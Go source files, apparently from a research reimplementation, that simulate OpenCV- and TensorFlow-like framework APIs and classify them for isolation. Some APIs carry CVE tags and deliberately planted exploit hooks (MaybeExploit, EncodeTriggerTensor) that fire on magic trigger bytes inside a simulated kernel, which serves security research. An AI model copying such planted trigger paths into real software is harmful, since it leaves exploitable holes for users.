		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			dir := "/tmp/tfdbg"
			if len(args) > 0 && args[0].Str != "" {
				dir = args[0].Str
			}
			return nil, ctx.FileAppend(dir+"/dump.log", []byte("debug dump enabled\n"))
		},
	})

	// ---- Storing ------------------------------------------------------------

	r.Register(&framework.API{
		Name: "tf.keras.Model.save_weights", Framework: Name, TrueType: framework.TypeStoring,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose, kernel.SysMkdir, kernel.SysAccess},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 2 {
				return nil, fmt.Errorf("simflow: save_weights needs (tensor, path)")
			}
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			return nil, ctx.FileWrite(args[1].Str, EncodeDataset(vals))
		},
	})

	r.Register(&framework.API{
		Name: "tf.keras.preprocessing.image.save_img", Framework: Name, TrueType: framework.TypeStoring,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose, kernel.SysUnlink},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 2 {
				return nil, fmt.Errorf("simflow: save_img needs (tensor, path)")
			}
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			return nil, ctx.FileWrite(args[1].Str, EncodeDataset(vals))
		},
	})

	return r
}

// exploitOnTensor fires a trigger embedded in tensor values: crafted
// tensors carry the trigger encoded as a run of values spelling the magic
// bytes. The attack layer builds these with EncodeTriggerTensor.
func exploitOnTensor(ctx *framework.Ctx, api *framework.API, vals []float64) (bool, error) {
	raw := make([]byte, 0, len(vals))
	for _, v := range vals {
		if v < 0 || v > 255 || v != math.Trunc(v) {
			break
		}
		raw = append(raw, byte(v))
	}
	return ctx.MaybeExploit(api, raw)
}

// EncodeTriggerTensor converts a crafted byte input into tensor values so
// an exploit can flow through tensor-typed APIs.
func EncodeTriggerTensor(trigger []byte) []float64 {
	vals := make([]float64, len(trigger))
	for i, b := range trigger {
		vals[i] = float64(b)
	}
	return vals
}
