// Package framework defines the data-processing framework substrate: the
// API metadata model (types, data-flow operations, syscall needs,
// vulnerabilities), the execution context APIs run in, the registry the
// analyzer and runtime consume, and the value marshalling used across
// process boundaries.
//
// Concrete frameworks live in the subpackages simcv (OpenCV-like),
// simcaffe, simtorch, and simflow. Their APIs are real implementations:
// they allocate buffers in simulated memory, read files and devices through
// the simulated kernel, and compute actual results — so the hybrid
// analyzer's traces, the partitioner's isolation, and the attack payloads
// all exercise genuine data flows.
package framework

import "fmt"

// APIType is the paper's four-way categorization (§4.1) plus the
// type-neutral class (§4.2.2) and an unknown marker for pre-analysis state.
type APIType uint8

// API types.
const (
	TypeUnknown APIType = iota
	TypeLoading
	TypeProcessing
	TypeVisualizing
	TypeStoring
	TypeNeutral
)

// String names the API type as the paper abbreviates it.
func (t APIType) String() string {
	switch t {
	case TypeLoading:
		return "DL"
	case TypeProcessing:
		return "DP"
	case TypeVisualizing:
		return "V"
	case TypeStoring:
		return "ST"
	case TypeNeutral:
		return "N"
	case TypeUnknown:
		return "?"
	default:
		return fmt.Sprintf("type(%d)", uint8(t))
	}
}

// Long returns the full name used in tables.
func (t APIType) Long() string {
	switch t {
	case TypeLoading:
		return "Data Loading"
	case TypeProcessing:
		return "Data Processing"
	case TypeVisualizing:
		return "Visualizing"
	case TypeStoring:
		return "Storing"
	case TypeNeutral:
		return "Type-Neutral"
	default:
		return "Unknown"
	}
}

// ConcreteTypes lists the four isolatable types in pipeline order.
func ConcreteTypes() []APIType {
	return []APIType{TypeLoading, TypeProcessing, TypeVisualizing, TypeStoring}
}

// Storage is a data origin/destination class (Fig. 8).
type Storage uint8

// Storage classes.
const (
	StorageMem Storage = iota
	StorageGUI
	StorageFile
	StorageDev
)

// String names the storage class as in Fig. 8.
func (s Storage) String() string {
	switch s {
	case StorageMem:
		return "MEM"
	case StorageGUI:
		return "GUI"
	case StorageFile:
		return "FILE"
	case StorageDev:
		return "DEV"
	default:
		return fmt.Sprintf("storage(%d)", uint8(s))
	}
}

// Op is one data-transfer operation W(dst, R(src)) in the Fig. 8 model.
// A pure read (R(GUI) with no write) is expressed with DstValid=false.
type Op struct {
	Dst      Storage
	Src      Storage
	DstValid bool // false for read-only operations like R(GUI)
}

// WriteOp builds W(dst, R(src)).
func WriteOp(dst, src Storage) Op { return Op{Dst: dst, Src: src, DstValid: true} }

// ReadOp builds a pure R(src).
func ReadOp(src Storage) Op { return Op{Src: src} }

// String renders the operation in the paper's notation.
func (o Op) String() string {
	if !o.DstValid {
		return fmt.Sprintf("R(%s)", o.Src)
	}
	return fmt.Sprintf("W(%s, R(%s))", o.Dst, o.Src)
}
