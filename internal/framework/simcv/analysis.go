package simcv

import (
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// components labels 4-connected components of a binary image, returning
// the label map (0 = background) and per-component bounding boxes
// (minR, minC, maxR, maxC) and areas.
func components(rows, cols int, bin []byte) (labels []int, boxes [][4]int, areas []int) {
	labels = make([]int, rows*cols)
	next := 0
	var stack []int
	for start := 0; start < rows*cols; start++ {
		if bin[start] == 0 || labels[start] != 0 {
			continue
		}
		next++
		box := [4]int{rows, cols, -1, -1}
		area := 0
		stack = append(stack[:0], start)
		labels[start] = next
		for len(stack) > 0 {
			i := stack[len(stack)-1]
			stack = stack[:len(stack)-1]
			r, c := i/cols, i%cols
			area++
			if r < box[0] {
				box[0] = r
			}
			if c < box[1] {
				box[1] = c
			}
			if r > box[2] {
				box[2] = r
			}
			if c > box[3] {
				box[3] = c
			}
			for _, d := range [4][2]int{{-1, 0}, {1, 0}, {0, -1}, {0, 1}} {
				nr, nc := r+d[0], c+d[1]
				if nr < 0 || nr >= rows || nc < 0 || nc >= cols {
					continue
				}
				j := nr*cols + nc
				if bin[j] != 0 && labels[j] == 0 {
					labels[j] = next
					stack = append(stack, j)
				}
			}
		}
		boxes = append(boxes, box)
		areas = append(areas, area)
	}
	return labels, boxes, areas
}

// binarize thresholds a gray image at 128.
func binarize(g []byte) []byte {
	out := make([]byte, len(g))
	for i, v := range g {
		if v >= 128 {
			out[i] = 255
		}
	}
	return out
}

// registerAnalysis installs measurement and feature-extraction operations.
func registerAnalysis(r *framework.Registry) {
	r.Register(reduceAPI("cv.findContours", 8, []string{CVEContoursDoS}, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			rows, cols := m.Rows(), m.Cols()
			g := binarize(grayOf(rows, cols, m.Channels(), data))
			_, boxes, areas := components(rows, cols, g)
			if len(boxes) == 0 {
				id, _, err := ctx.NewTensor(1, 5)
				if err != nil {
					return nil, err
				}
				return []framework.Value{framework.Obj(id), framework.Int64(0)}, nil
			}
			id, t, err := ctx.NewTensor(len(boxes), 5)
			if err != nil {
				return nil, err
			}
			for i, b := range boxes {
				_ = t.Set(float64(b[0]), i, 0)
				_ = t.Set(float64(b[1]), i, 1)
				_ = t.Set(float64(b[2]), i, 2)
				_ = t.Set(float64(b[3]), i, 3)
				_ = t.Set(float64(areas[i]), i, 4)
			}
			return []framework.Value{framework.Obj(id), framework.Int64(int64(len(boxes)))}, nil
		}))

	r.Register(&framework.API{
		Name: "cv.boundingRect", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.boundingRect", args, 2); err != nil {
				return nil, err
			}
			t, err := ctx.Tensor(args[0])
			if err != nil {
				return nil, err
			}
			i := int(args[1].Int)
			sh := t.Shape()
			if len(sh) != 2 || sh[1] < 5 || i < 0 || i >= sh[0] {
				return nil, errorString("simcv: boundingRect wants contour tensor and valid index")
			}
			minR, _ := t.At(i, 0)
			minC, _ := t.At(i, 1)
			maxR, _ := t.At(i, 2)
			maxC, _ := t.At(i, 3)
			ctx.EmitMemOp()
			return []framework.Value{
				framework.Int64(int64(minC)), framework.Int64(int64(minR)),
				framework.Int64(int64(maxC - minC + 1)), framework.Int64(int64(maxR - minR + 1)),
			}, nil
		},
	})

	r.Register(&framework.API{
		Name: "cv.contourArea", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.contourArea", args, 2); err != nil {
				return nil, err
			}
			t, err := ctx.Tensor(args[0])
			if err != nil {
				return nil, err
			}
			i := int(args[1].Int)
			sh := t.Shape()
			if len(sh) != 2 || sh[1] < 5 || i < 0 || i >= sh[0] {
				return nil, errorString("simcv: contourArea wants contour tensor and valid index")
			}
			area, _ := t.At(i, 4)
			ctx.EmitMemOp()
			return []framework.Value{framework.Float64(area)}, nil
		},
	})

	r.Register(reduceAPI("cv.countNonZero", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			n := 0
			for _, v := range data {
				if v != 0 {
					n++
				}
			}
			return []framework.Value{framework.Int64(int64(n))}, nil
		}))

	r.Register(reduceAPI("cv.mean", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			sum := 0
			for _, v := range data {
				sum += int(v)
			}
			return []framework.Value{framework.Float64(float64(sum) / float64(len(data)))}, nil
		}))

	r.Register(reduceAPI("cv.sum", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			sum := int64(0)
			for _, v := range data {
				sum += int64(v)
			}
			return []framework.Value{framework.Int64(sum)}, nil
		}))

	r.Register(reduceAPI("cv.minMaxLoc", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			lo, hi := 0, 0
			for i, v := range data {
				if v < data[lo] {
					lo = i
				}
				if v > data[hi] {
					hi = i
				}
			}
			stride := m.Cols() * m.Channels()
			return []framework.Value{
				framework.Int64(int64(data[lo])), framework.Int64(int64(data[hi])),
				framework.Int64(int64(lo % stride)), framework.Int64(int64(lo / stride)),
				framework.Int64(int64(hi % stride)), framework.Int64(int64(hi / stride)),
			}, nil
		}))

	r.Register(reduceAPI("cv.calcHist", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			var hist [256]int
			for _, v := range data {
				hist[v]++
			}
			id, t, err := ctx.NewTensor(256)
			if err != nil {
				return nil, err
			}
			for i, h := range hist {
				if err := t.SetFlat(i, float64(h)); err != nil {
					return nil, err
				}
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(&framework.API{
		Name: "cv.compareHist", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.compareHist", args, 2); err != nil {
				return nil, err
			}
			a, err := ctx.Tensor(args[0])
			if err != nil {
				return nil, err
			}
			b, err := ctx.Tensor(args[1])
			if err != nil {
				return nil, err
			}
			if a.Len() != b.Len() {
				return nil, errorString("simcv: histogram length mismatch")
			}
			// Chi-square distance.
			d := 0.0
			for i := 0; i < a.Len(); i++ {
				x, _ := a.AtFlat(i)
				y, _ := b.AtFlat(i)
				if x+y > 0 {
					d += (x - y) * (x - y) / (x + y)
				}
			}
			ctx.EmitMemOp()
			return []framework.Value{framework.Float64(d)}, nil
		},
	})

	r.Register(reduceAPI("cv.moments", 2, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			var m00, m10, m01 float64
			for r := 0; r < rows; r++ {
				for c := 0; c < cols; c++ {
					v := float64(g[r*cols+c])
					m00 += v
					m10 += v * float64(c)
					m01 += v * float64(r)
				}
			}
			id, t, err := ctx.NewTensor(3)
			if err != nil {
				return nil, err
			}
			_ = t.SetFlat(0, m00)
			_ = t.SetFlat(1, m10)
			_ = t.SetFlat(2, m01)
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(reduceAPI("cv.norm", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			s := 0.0
			for _, v := range data {
				s += float64(v) * float64(v)
			}
			return []framework.Value{framework.Float64(math.Sqrt(s))}, nil
		}))

	r.Register(reduceAPI("cv.reduce", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			id, t, err := ctx.NewTensor(rows)
			if err != nil {
				return nil, err
			}
			for r := 0; r < rows; r++ {
				sum := 0.0
				for c := 0; c < cols; c++ {
					sum += float64(g[r*cols+c])
				}
				if err := t.SetFlat(r, sum); err != nil {
					return nil, err
				}
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(reduceAPI("cv.HoughLines", 10, nil, dpSyscalls(kernel.SysGetrandom),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			// Detect strong horizontal/vertical lines by row/column edge mass.
			rows, cols := m.Rows(), m.Cols()
			g := binarize(grayOf(rows, cols, m.Channels(), data))
			var lines []float64 // (orientation 0=h,1=v, index)
			for r := 0; r < rows; r++ {
				n := 0
				for c := 0; c < cols; c++ {
					if g[r*cols+c] != 0 {
						n++
					}
				}
				if n*10 >= cols*9 {
					lines = append(lines, 0, float64(r))
				}
			}
			for c := 0; c < cols; c++ {
				n := 0
				for r := 0; r < rows; r++ {
					if g[r*cols+c] != 0 {
						n++
					}
				}
				if n*10 >= rows*9 {
					lines = append(lines, 1, float64(c))
				}
			}
			if len(lines) == 0 {
				lines = []float64{0, 0}
			}
			id, t, err := ctx.NewTensor(len(lines)/2, 2)
			if err != nil {
				return nil, err
			}
			for i, v := range lines {
				if err := t.SetFlat(i, v); err != nil {
					return nil, err
				}
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(reduceAPI("cv.HoughCircles", 12, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			// Circle proxy: centroids of round-ish components.
			rows, cols := m.Rows(), m.Cols()
			g := binarize(grayOf(rows, cols, m.Channels(), data))
			_, boxes, areas := components(rows, cols, g)
			var circ []float64
			for i, b := range boxes {
				h, w := b[2]-b[0]+1, b[3]-b[1]+1
				if h == 0 || w == 0 {
					continue
				}
				ratio := float64(h) / float64(w)
				fill := float64(areas[i]) / float64(h*w)
				if ratio > 0.75 && ratio < 1.33 && fill > math.Pi/4*0.8 {
					circ = append(circ, float64(b[1]+w/2), float64(b[0]+h/2), float64((h+w)/4))
				}
			}
			if len(circ) == 0 {
				circ = []float64{0, 0, 0}
			}
			id, t, err := ctx.NewTensor(len(circ)/3, 3)
			if err != nil {
				return nil, err
			}
			for i, v := range circ {
				if err := t.SetFlat(i, v); err != nil {
					return nil, err
				}
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(reduceAPI("cv.connectedComponents", 8, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			rows, cols := m.Rows(), m.Cols()
			g := binarize(grayOf(rows, cols, m.Channels(), data))
			labels, boxes, _ := components(rows, cols, g)
			lab := make([]byte, rows*cols)
			for i, l := range labels {
				lab[i] = byte(l)
			}
			v, err := outMat(ctx, rows, cols, 1, lab)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Int64(int64(len(boxes) + 1)), v}, nil
		}))

	r.Register(reduceAPI("cv.goodFeaturesToTrack", 10, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			type corner struct {
				score int
				r, c  int
			}
			var best []corner
			for r := 1; r < rows-1; r++ {
				for c := 1; c < cols-1; c++ {
					gx := int(g[r*cols+c+1]) - int(g[r*cols+c-1])
					gy := int(g[(r+1)*cols+c]) - int(g[(r-1)*cols+c])
					s := gx*gx + gy*gy
					if s > 10000 {
						best = append(best, corner{s, r, c})
						if len(best) >= 64 {
							break
						}
					}
				}
				if len(best) >= 64 {
					break
				}
			}
			n := len(best)
			if n == 0 {
				n = 1
				best = []corner{{0, 0, 0}}
			}
			id, t, err := ctx.NewTensor(n, 2)
			if err != nil {
				return nil, err
			}
			for i, b := range best {
				_ = t.Set(float64(b.c), i, 0)
				_ = t.Set(float64(b.r), i, 1)
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(unaryAPI("cv.cornerHarris", 12, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			out := make([]byte, rows*cols)
			for r := 1; r < rows-1; r++ {
				for c := 1; c < cols-1; c++ {
					gx := int(g[r*cols+c+1]) - int(g[r*cols+c-1])
					gy := int(g[(r+1)*cols+c]) - int(g[(r-1)*cols+c])
					out[r*cols+c] = clampByte((gx*gx + gy*gy) / 512)
				}
			}
			return rows, cols, 1, out, nil
		}))

	r.Register(binaryAPI("cv.phaseCorrelate", 6, nil, dpSyscalls(),
		func(a, b *object.Mat, da, db []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Coarse translation estimate by scanning ±4 pixel shifts;
			// emits a 1x2x1 mat holding (dy+128, dx+128).
			rows, cols := a.Rows(), a.Cols()
			ga := grayOf(rows, cols, a.Channels(), da)
			gb := grayOf(b.Rows(), b.Cols(), b.Channels(), db)
			if len(ga) != len(gb) {
				return 0, 0, 0, nil, errorString("simcv: phaseCorrelate shape mismatch")
			}
			bestD, bestR, bestC := math.MaxFloat64, 0, 0
			for dr := -4; dr <= 4; dr++ {
				for dc := -4; dc <= 4; dc++ {
					sad := 0.0
					for r := 0; r < rows; r += 4 {
						for c := 0; c < cols; c += 4 {
							va := float64(pix(ga, rows, cols, 1, r, c, 0))
							vb := float64(pix(gb, rows, cols, 1, r+dr, c+dc, 0))
							sad += math.Abs(va - vb)
						}
					}
					if sad < bestD {
						bestD, bestR, bestC = sad, dr, dc
					}
				}
			}
			return 1, 2, 1, []byte{byte(bestR + 128), byte(bestC + 128)}, nil
		}))

	r.Register(binaryAPI("cv.calcOpticalFlowFarneback", 20, nil, dpSyscalls(),
		func(a, b *object.Mat, da, db []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Block-difference flow magnitude map.
			rows, cols := a.Rows(), a.Cols()
			ga := grayOf(rows, cols, a.Channels(), da)
			gb := grayOf(b.Rows(), b.Cols(), b.Channels(), db)
			if len(ga) != len(gb) {
				return 0, 0, 0, nil, errorString("simcv: flow shape mismatch")
			}
			out := make([]byte, rows*cols)
			for i := range ga {
				d := int(ga[i]) - int(gb[i])
				if d < 0 {
					d = -d
				}
				out[i] = byte(d)
			}
			return rows, cols, 1, out, nil
		}))
}
