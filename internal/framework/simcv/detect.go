package simcv

import (
	"encoding/binary"
	"fmt"
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// EncodeClassifier serializes a toy cascade classifier: a detection
// threshold and a window size. Real cascades are XML stage trees; the toy
// model keeps the data flow (file → model object → detections) identical.
func EncodeClassifier(threshold byte, window int) []byte {
	out := []byte("CASC")
	out = append(out, threshold)
	return binary.BigEndian.AppendUint32(out, uint32(window))
}

// decodeClassifier parses the classifier format.
func decodeClassifier(b []byte) (threshold byte, window int, err error) {
	if len(b) < 9 || string(b[:4]) != "CASC" {
		return 0, 0, fmt.Errorf("simcv: not a classifier file")
	}
	threshold = b[4]
	window = int(binary.BigEndian.Uint32(b[5:9]))
	if window <= 0 {
		return 0, 0, fmt.Errorf("simcv: classifier window %d", window)
	}
	return threshold, window, nil
}

// registerDetect installs the object-detection and feature-matching APIs.
func registerDetect(r *framework.Registry) {
	// CascadeClassifier constructor loads the model file. Fig. 12-(a)
	// places its syscalls in the data-loading agent, so its true type is
	// data loading.
	var ccAPI *framework.API
	ccAPI = &framework.API{
		Name: "cv.CascadeClassifier", Framework: Name, TrueType: framework.TypeLoading,
		Stateful:  true,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysClose, kernel.SysBrk, kernel.SysFstat, kernel.SysRead, kernel.SysLseek},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("CascadeClassifier", args, 1); err != nil {
				return nil, err
			}
			raw, err := ctx.FileRead(args[0].Str)
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(ccAPI, raw); fired {
				return nil, err
			}
			if _, _, err := decodeClassifier(raw); err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	}
	r.Register(ccAPI)

	var dmsAPI *framework.API
	dmsAPI = &framework.API{
		Name: "cv.CascadeClassifier.detectMultiScale", Framework: Name,
		TrueType: framework.TypeProcessing, Stateful: true,
		StaticOps: memOps(),
		Syscalls:  dpSyscalls(kernel.SysFutex, kernel.SysClockGettime),
		Intensity: 30,
		CVEs:      []string{CVEDetectRCE, CVEDetectDoS},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("detectMultiScale", args, 2); err != nil {
				return nil, err
			}
			model, err := ctx.Blob(args[0])
			if err != nil {
				return nil, err
			}
			modelBytes, err := model.Bytes()
			if err != nil {
				return nil, err
			}
			threshold, window, err := decodeClassifier(modelBytes)
			if err != nil {
				return nil, err
			}
			m, data, err := matAndBytes(ctx, args[1])
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(dmsAPI, data); fired {
				return nil, err
			}
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			ctx.Charge(len(data), 30)
			ctx.EmitMemOp()
			// Sliding window: report windows whose mean exceeds threshold.
			var dets []float64
			step := window / 2
			if step < 1 {
				step = 1
			}
			for y := 0; y+window <= rows; y += step {
				for x := 0; x+window <= cols; x += step {
					sum := 0
					for dy := 0; dy < window; dy += 2 {
						for dx := 0; dx < window; dx += 2 {
							sum += int(g[(y+dy)*cols+x+dx])
						}
					}
					n := ((window + 1) / 2) * ((window + 1) / 2)
					if byte(sum/n) > threshold {
						dets = append(dets, float64(x), float64(y), float64(window), float64(window))
					}
				}
			}
			if len(dets) == 0 {
				id, _, err := ctx.NewTensor(1, 4)
				if err != nil {
					return nil, err
				}
				return []framework.Value{framework.Obj(id), framework.Int64(0)}, nil
			}
			id, t, err := ctx.NewTensor(len(dets)/4, 4)
			if err != nil {
				return nil, err
			}
			for i, v := range dets {
				if err := t.SetFlat(i, v); err != nil {
					return nil, err
				}
			}
			return []framework.Value{framework.Obj(id), framework.Int64(int64(len(dets) / 4))}, nil
		},
	}
	r.Register(dmsAPI)

	r.Register(reduceAPI("cv.HOGDescriptor.compute", 12, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			// 8-bin gradient-orientation histogram over 8x8 cells.
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			cellsR, cellsC := (rows+7)/8, (cols+7)/8
			id, t, err := ctx.NewTensor(cellsR*cellsC, 8)
			if err != nil {
				return nil, err
			}
			for r := 1; r < rows-1; r++ {
				for c := 1; c < cols-1; c++ {
					gx := int(g[r*cols+c+1]) - int(g[r*cols+c-1])
					gy := int(g[(r+1)*cols+c]) - int(g[(r-1)*cols+c])
					mag := math.Hypot(float64(gx), float64(gy))
					ang := math.Atan2(float64(gy), float64(gx)) + math.Pi
					bin := int(ang/(2*math.Pi)*8) % 8
					cell := (r/8)*cellsC + c/8
					old, _ := t.At(cell, bin)
					if err := t.Set(old+mag, cell, bin); err != nil {
						return nil, err
					}
				}
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(reduceAPI("cv.ORB.detect", 14, nil, dpSyscalls(kernel.SysGetrandom),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			// FAST-like keypoints: pixels much brighter/darker than the ring
			// of neighbours at radius 2.
			rows, cols := m.Rows(), m.Cols()
			g := grayOf(rows, cols, m.Channels(), data)
			var kps []float64
			for r := 2; r < rows-2 && len(kps) < 128; r++ {
				for c := 2; c < cols-2 && len(kps) < 128; c++ {
					center := int(g[r*cols+c])
					brighter, darker := 0, 0
					for _, d := range [8][2]int{{-2, 0}, {2, 0}, {0, -2}, {0, 2}, {-2, -2}, {2, 2}, {-2, 2}, {2, -2}} {
						v := int(g[(r+d[0])*cols+c+d[1]])
						if v > center+40 {
							brighter++
						}
						if v < center-40 {
							darker++
						}
					}
					if brighter >= 6 || darker >= 6 {
						kps = append(kps, float64(c), float64(r))
					}
				}
			}
			if len(kps) == 0 {
				kps = []float64{0, 0}
			}
			id, t, err := ctx.NewTensor(len(kps)/2, 2)
			if err != nil {
				return nil, err
			}
			for i, v := range kps {
				if err := t.SetFlat(i, v); err != nil {
					return nil, err
				}
			}
			return []framework.Value{framework.Obj(id)}, nil
		}))

	r.Register(&framework.API{
		Name: "cv.BFMatcher.match", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 8,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("BFMatcher.match", args, 2); err != nil {
				return nil, err
			}
			a, err := ctx.Tensor(args[0])
			if err != nil {
				return nil, err
			}
			b, err := ctx.Tensor(args[1])
			if err != nil {
				return nil, err
			}
			sa, sb := a.Shape(), b.Shape()
			if len(sa) != 2 || len(sb) != 2 || sa[1] != sb[1] {
				return nil, fmt.Errorf("simcv: match wants NxD tensors, got %v vs %v", sa, sb)
			}
			ctx.Charge(a.Size()+b.Size(), 8)
			ctx.EmitMemOp()
			// Nearest neighbour per row of a.
			id, t, err := ctx.NewTensor(sa[0], 2)
			if err != nil {
				return nil, err
			}
			for i := 0; i < sa[0]; i++ {
				bestJ, bestD := 0, math.MaxFloat64
				for j := 0; j < sb[0]; j++ {
					d := 0.0
					for k := 0; k < sa[1]; k++ {
						x, _ := a.At(i, k)
						y, _ := b.At(j, k)
						d += (x - y) * (x - y)
					}
					if d < bestD {
						bestD, bestJ = d, j
					}
				}
				_ = t.Set(float64(bestJ), i, 0)
				_ = t.Set(math.Sqrt(bestD), i, 1)
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	})

	// KalmanFilter keeps its state in a caller-held tensor: a stateful API
	// whose state is shared across calls (§A.6's harder class). predict
	// advances (pos += vel); correct blends a measurement in.
	r.Register(&framework.API{
		Name: "cv.KalmanFilter.predict", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Stateful: true, SharedState: true,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("KalmanFilter.predict", args, 1); err != nil {
				return nil, err
			}
			st, err := ctx.Tensor(args[0])
			if err != nil {
				return nil, err
			}
			if st.Len() < 4 {
				return nil, errorString("simcv: kalman state needs [x y vx vy]")
			}
			x, err := st.AtFlat(0)
			if err != nil {
				return nil, err
			}
			y, err := st.AtFlat(1)
			if err != nil {
				return nil, err
			}
			vx, err := st.AtFlat(2)
			if err != nil {
				return nil, err
			}
			vy, err := st.AtFlat(3)
			if err != nil {
				return nil, err
			}
			if err := st.SetFlat(0, x+vx); err != nil {
				return nil, err
			}
			if err := st.SetFlat(1, y+vy); err != nil {
				return nil, err
			}
			ctx.EmitMemOp()
			return []framework.Value{framework.Float64(x + vx), framework.Float64(y + vy)}, nil
		},
	})
	r.Register(&framework.API{
		Name: "cv.KalmanFilter.correct", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Stateful: true, SharedState: true,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("KalmanFilter.correct", args, 3); err != nil {
				return nil, err
			}
			st, err := ctx.Tensor(args[0])
			if err != nil {
				return nil, err
			}
			if st.Len() < 4 {
				return nil, errorString("simcv: kalman state needs [x y vx vy]")
			}
			mx, my := args[1].Float, args[2].Float
			x, err := st.AtFlat(0)
			if err != nil {
				return nil, err
			}
			y, err := st.AtFlat(1)
			if err != nil {
				return nil, err
			}
			const gain = 0.5
